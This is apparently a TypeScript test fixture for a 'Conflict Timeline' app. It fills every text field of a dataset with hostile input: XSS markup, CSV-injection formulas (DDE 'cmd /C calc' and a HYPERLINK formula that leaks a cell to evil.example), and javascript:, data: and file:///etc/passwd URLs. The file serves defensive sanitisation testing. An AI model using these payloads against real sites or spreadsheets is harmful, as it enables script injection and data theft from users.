// Text an attacker might put into a dataset: markup and script, formula cells, hostile URLs, and
// control or bidirectional characters. Tests put every payload into every text field.

/** Payloads that would run script if any of them ever became markup. Each sets window.__xss. */
export const XSS_PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1;alert(1)">',
  '"><svg onload="window.__xss=1;alert(1)">',
  "'><iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
  '</text><script>window.__xss=1</script><text>',
  ']]><script>window.__xss=1</script>',
  '<a href="javascript:window.__xss=1">click</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
  '<details open ontoggle="window.__xss=1;alert(1)">',
  '{{constructor.constructor("window.__xss=1")()}}',
  '${window.__xss=1}',
  '&lt;b&gt;entity&lt;/b&gt; &amp; &#60;script&#62;',
] as const;

/** Cells a spreadsheet would run as formulas (CSV injection). */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=cmd|\' /C calc\'!A0',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
] as const;

/** Odd characters: bidi overrides, NUL and other controls, a lone surrogate, a very long word. */
const ODD_TEXT = ['\u202Eevil\u202C txt.exe', 'nul\u0000byte', 'lone \uD800 surrogate', 'x'.repeat(2000)] as const;

/** Source URLs that must never become links. */
const HOSTILE_URLS = [
  'javascript:window.__xss=1',
  'JaVaScRiPt:window.__xss=1',
  'data:text/html,<script>window.__xss=1</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
] as const;

export const ALL_HOSTILE_TEXT: readonly string[] = [...XSS_PAYLOADS, ...FORMULA_PAYLOADS, ...ODD_TEXT];

const pick = (i: number) => ALL_HOSTILE_TEXT[i % ALL_HOSTILE_TEXT.length]!;

/**
 * A valid Conflict Timeline dataset with a hostile payload in every text field: title and
 * description, actor names and aliases, place names and admin areas, source publishers, titles and
 * quotes, claims, the name an actor reference keeps, and tags. Sources use the hostile URLs too.
 */
export function hostileDataset(): Record<string, unknown> {
  const actors = ALL_HOSTILE_TEXT.map((text, i) => ({
    id: `hostile-${i}`,
    names: { en: text, ar: pick(i + 1) },
    aliases: [pick(i + 2)],
    kind: 'armed-group',
  }));
  const events = ALL_HOSTILE_TEXT.map((text, i) => ({
    id: `hostile-event-${i}`,
    type: i % 2 ? 'clash' : 'statement',
    title: { en: text, ar: pick(i + 3) },
    description: { en: pick(i + 4) },
    originalLanguage: 'en',
    start: { at: `2022-09-${String(10 + (i % 10)).padStart(2, '0')}T${String(i % 24).padStart(2, '0')}:00:00+04:00`, precision: 'hour', tz: 'Asia/Yerevan' },
    actors: [
      { actor: `hostile-${i}`, role: 'initiator', name: pick(i + 5) },
      { actor: `hostile-${(i + 1) % ALL_HOSTILE_TEXT.length}`, role: 'target' },
    ],
    place: { name: { en: pick(i + 6) }, country: 'ARM', admin: [pick(i + 7)] },
    counts: [{ kind: 'killed', value: i, qualifier: 'exact', claimant: `hostile-${i}`, claimedOn: '2022-09-15', source: 0 }],
    claims: [{ claimant: `hostile-${i}`, text: { en: pick(i + 8) }, status: 'unverified', source: 0 }],
    sources: [
      { publisher: pick(i + 9), url: HOSTILE_URLS[i % HOSTILE_URLS.length], title: pick(i + 10), language: 'en', quote: { en: pick(i + 11) } },
      { publisher: pick(i + 12), url: 'https://example.org/report?q=%3Cscript%3E', language: 'en' },
    ],
    tags: [pick(i + 13), pick(i + 14)],
  }));
  return {
    title: '<img src=x onerror="window.__xss=1"> Hostile dataset',
    description: XSS_PAYLOADS[0],
    attribution: '=HYPERLINK("http://evil.example") <script>window.__xss=1</script>',
    license: '<b>none</b>',
    actors,
    events,
  };
}
